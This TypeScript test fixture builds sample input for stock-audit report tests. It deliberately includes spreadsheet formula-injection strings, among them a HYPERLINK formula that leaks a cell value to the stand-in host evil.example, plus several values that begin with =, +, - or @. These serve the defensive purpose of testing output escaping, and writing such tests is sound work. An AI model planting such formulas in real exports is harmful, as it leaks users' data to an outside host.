/**
 * A small, hand-made report input for the report tests: every category, hostile text (formula
 * starts, a HYPERLINK product name, a GS1 group separator, quotes, commas and line breaks),
 * negative differences, null percentages and cross-validation lines.
 */
import type { Categories, CategoryCounts, RepeatedRead, ResultCategory, ResultItem, ResultsSummary } from '../../contracts/results.js';
import { summariseMoney } from '../../domain/money-summary.js';
import type { ReportAudit, ReportInput } from './report-input.js';

export const HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
export const GS1_VALUE = '0109501101530003\u001D10ABC123';

/** A result line with `fields`; every other field null, empty or false, scanValue and matchedSku the sku. */
export function line(fields: Partial<ResultItem> & Pick<ResultItem, 'sku'>): ResultItem {
  return {
    scanValue: fields.sku,
    matchedSku: fields.sku,
    productId: null,
    productName: null,
    expectedQuantity: null,
    scannedQuantity: 0,
    difference: null,
    percentageDifference: null,
    costPrice: null,
    varianceValue: null,
    scannedBefore: null,
    scannedBeforeName: null,
    scannedAfter: null,
    scannedAfterName: null,
    actualCategory: null,
    location: null,
    scanFiles: [],
    reason: null,
    fileCounts: [],
    badCheckDigit: false,
    lot: null,
    expiry: null,
    serial: null,
    ...fields,
  };
}

const notFound = (value: string, quantity: number, extra: Partial<ResultItem> = {}) =>
  line({ sku: value, scanValue: value, matchedSku: null, scannedQuantity: quantity, reason: 'unknown', scanFiles: ['team1.csv'], ...extra });

export const SAMPLE_LINES: Readonly<Record<ResultCategory, readonly ResultItem[]>> = {
  quantityCorrect: [
    line({
      sku: 'SKU-100',
      productName: 'Blue Widget',
      expectedQuantity: 10,
      scannedQuantity: 10,
      difference: 0,
      percentageDifference: 0,
      costPrice: '2.50',
      varianceValue: '0.00',
      actualCategory: 'Widgets',
      location: 'A-01',
      scanFiles: ['team1.csv', 'team2.csv'],
    }),
    line({
      sku: '00012345',
      productName: 'Leading zeros, "quoted"\nand two lines',
      expectedQuantity: 2,
      scannedQuantity: 2,
      difference: 0,
      percentageDifference: 0,
      costPrice: '1.00',
      varianceValue: '0.00',
      scanFiles: ['team1.csv'],
    }),
  ],
  quantityAbove: [
    line({
      sku: 'SKU-200',
      productName: HYPERLINK_NAME,
      expectedQuantity: 4,
      scannedQuantity: 6,
      difference: 2,
      percentageDifference: 50,
      costPrice: '3.50',
      varianceValue: '7.00',
      scanFiles: ['team2.csv'],
    }),
    line({
      sku: 'SKU-201',
      productName: 'Was expected zero',
      expectedQuantity: 0,
      scannedQuantity: 3,
      difference: 3,
      percentageDifference: null,
      costPrice: '1.00',
      varianceValue: '3.00',
      scanFiles: ['team1.csv'],
    }),
  ],
  quantityBelow: [
    line({
      sku: 'SKU-300',
      productName: '- Clearance bin',
      expectedQuantity: 8,
      scannedQuantity: 5,
      difference: -3,
      percentageDifference: -37.5,
      costPrice: '1.99',
      varianceValue: '-5.97',
      scanFiles: ['team1.csv'],
    }),
    line({
      sku: 'SKU-301',
      productName: 'No cost price',
      expectedQuantity: 3,
      scannedQuantity: 1,
      difference: -2,
      percentageDifference: (-2 / 3) * 100,
      scanFiles: ['team2.csv'],
    }),
  ],
  crossFileDiscrepancies: [
    line({
      sku: 'SKU-400',
      productName: 'Disputed Gadget',
      expectedQuantity: 5,
      scannedQuantity: 7,
      scanFiles: ['team1.csv', 'team2.csv'],
      fileCounts: [
        { fileName: 'team1.csv', teamName: 'Team 1', quantity: 5 },
        { fileName: 'team2.csv', teamName: 'Team 2', quantity: 7 },
      ],
    }),
  ],
  notFound: [
    notFound('=1+1', 1, { scannedBefore: 'SKU-100', scannedBeforeName: 'Blue Widget', scannedAfter: 'SKU-200', scannedAfterName: HYPERLINK_NAME }),
    notFound('+SUM(A1:A9)', 2),
    notFound('-2+3', 1),
    notFound('@cmd', 1),
    notFound('\t=1+2', 1),
    notFound('1.23457E+11', 4, { reason: 'scientific notation: 1.23457E+11' }),
    notFound(GS1_VALUE, 1, { scanFiles: ['team1.csv', 'team2.csv'] }),
  ],
  scannedNotExpected: [
    line({
      sku: 'SKU-500',
      productName: 'Garden Hose',
      actualCategory: 'Garden',
      scannedQuantity: 2,
      location: 'B-12',
      scanFiles: ['team2.csv'],
    }),
  ],
  zeroSheetItems: [
    line({
      sku: 'SKU-600',
      scanValue: null,
      productName: 'Never Scanned',
      expectedQuantity: 4,
      scannedQuantity: 0,
      difference: -4,
      percentageDifference: -100,
      costPrice: '3.25',
      varianceValue: '-13.00',
      location: 'C-01',
    }),
    line({ sku: 'SKU-601', scanValue: null, productName: '@Sale item', expectedQuantity: 1, difference: -1, percentageDifference: -100, location: null }),
  ],
};

export const SAMPLE_SUMMARY: ResultsSummary = {
  totalScanned: 60,
  matchedScanned: 48,
  matchRate: 0.8,
  processingTime: 1234,
  scanFileBreakdown: [
    { fileName: 'team1.csv', teamName: 'Team 1', scannerId: 'ZB-01', totalItems: 40, matchRate: 0.85 },
    { fileName: 'team2.csv', teamName: 'Team 2', scannerId: null, totalItems: 20, matchRate: 0.7 },
  ],
  accuracy: 0.4,
  varianceUnits: -5,
  varianceValue: '-8.97',
  mode: 'cross-validation',
};

export const SAMPLE_AUDIT: ReportAudit = {
  name: 'Year-end count: Aisle 3',
  section: 'Aisle 3',
  auditType: 'product-audit',
  mode: 'cross-validation',
  createdAt: new Date('2026-11-20T08:30:00Z'),
  completedAt: new Date('2026-11-21T17:45:00Z'),
  organizationName: 'Acme Hardware',
  scope: 'Products whose category is "Paint" and that have the tag "seasonal"',
};

function countsOf(lines: Readonly<Record<ResultCategory, readonly ResultItem[]>>): CategoryCounts {
  const entries = Object.entries(lines).map(([category, items]) => [category, items.length]);
  return Object.fromEntries(entries) as CategoryCounts;
}

/**
 * A report input over `lines` (default: SAMPLE_LINES). `reads` records each category as it is
 * read, to check that the writers read each category once.
 */
export function sampleReportInput(
  overrides: { audit?: Partial<ReportAudit>; lines?: Readonly<Record<ResultCategory, readonly ResultItem[]>>; repeatedReads?: readonly RepeatedRead[] } = {},
): ReportInput & { reads: ResultCategory[] } {
  const lines = overrides.lines ?? SAMPLE_LINES;
  const reads: ResultCategory[] = [];
  return {
    audit: { ...SAMPLE_AUDIT, ...overrides.audit },
    totalProductsInFilter: 12,
    summary: SAMPLE_SUMMARY,
    money: summariseMoney(lines as Categories),
    counts: countsOf(lines),
    repeatedReads: overrides.repeatedReads ?? [],
    reads,
    async *lines(category) {
      reads.push(category);
      // Hand the lines out one by one with a pause, as a paged database read would.
      for (const item of lines[category]) {
        await Promise.resolve();
        yield item;
      }
    },
  };
}
